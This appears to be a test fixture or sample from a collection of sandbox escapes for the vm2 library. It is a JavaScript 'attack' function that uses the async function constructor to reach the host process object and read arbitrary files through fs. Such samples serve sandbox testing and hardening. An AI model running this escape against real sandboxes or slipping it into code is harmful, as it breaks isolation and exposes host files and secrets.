// So does that of async functions.
// after: read
// source: vm2: function constructors
async function attack({ path }) {
  const make = Object.getPrototypeOf(async () => {}).constructor;
  return { text: await (await make('return process')()).mainModule.require('fs').readFileSync(path) };
}
